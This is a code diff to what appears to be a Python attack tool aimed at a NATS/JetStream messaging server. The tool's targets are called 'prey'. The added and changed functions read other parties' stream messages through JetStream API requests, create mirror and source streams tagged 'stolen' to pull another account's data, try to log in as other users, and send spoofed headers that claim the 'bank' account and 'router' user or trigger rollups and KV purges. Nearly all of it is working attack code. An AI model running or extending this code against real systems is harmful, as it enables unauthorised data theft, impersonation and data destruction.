@@ -62,6 +62,18 @@ async def probe_nats(place: Place, key: Key | None, seen: Seen) -> Client | None
     return client
 
 
+async def probe_again(client: Client, key: Key | None, place: Place, seen: Seen) -> None:
+    """Reads what has got into streams of one's own that have the prey's names."""
+    inbox = f"{inbox_prefix(key)}.again" if key else "_INBOX.again"
+    await client.subscribe(f"{inbox}.>", cb=_Ear(place.prey, seen).hear)
+    for stream in _streams(place.prey):
+        for number in range(1, 20):
+            question = json.dumps({"seq": number}).encode()
+            await client.publish(f"$JS.API.STREAM.MSG.GET.{stream}", question, reply=f"{inbox}.{stream[-1]}{number}")
+    await client.flush()
+    await asyncio.sleep(SETTLE_S)
+
+
 async def probe_login(place: Place, key: Key, seen: Seen) -> None:
     """Tries to be let in as somebody else, line by line as NATS speaks, and keeps what the server says."""
     names = ("bank", "router", *place.prey.key_ids)
@@ -181,7 +193,8 @@ def _thefts(prey: Prey, api: str) -> Iterator[tuple[str, dict[str, Any]]]:
             source = {"name": stream, "external": {"api": theirs, "deliver": "stolen"}}
             yield f"STREAM.CREATE.{name}", {"name": name, "sources": [source], "storage": "memory"}
             yield f"STREAM.CREATE.{name}-mirror", {"name": f"{name}-mirror", "mirror": source, "storage": "memory"}
-        config = {"name": stream, "subjects": [f"rv.{prey.endpoint}.{number}"], "storage": "memory"}
+        subjects = [f"rv.{prey.endpoint}.{'score.>' if number else '*'}"]  # what they publish, were it to get here
+        config = {"name": stream, "subjects": subjects, "storage": "memory"}
         yield f"STREAM.CREATE.{stream}", config
         yield f"STREAM.RESTORE.{stream}", {"config": config, "state": {}}
 
@@ -205,5 +218,5 @@ def _headers(prey: Prey, inbox: str) -> Iterator[dict[str, str] | None]:
     yield {"Nats-Trace-Dest": f"{inbox}.trace"}
     yield {"Nats-Request-Info": json.dumps({"acc": "bank", "user": "router", "svc": "x"})}
     yield {"Nats-Expected-Stream": durable_stream(prey.endpoint), "Nats-Expected-Last-Sequence": "0"}
-    yield {"Nats-Rollup": "all", "Nats-Msg-Id": "x"}
+    yield {"Nats-Rollup": "sub", "Nats-Msg-Id": "x"}
     yield {"KV-Operation": "PURGE", "Nats-TTL": "1s", "Nats-Stream-Source": durable_stream(prey.endpoint)}
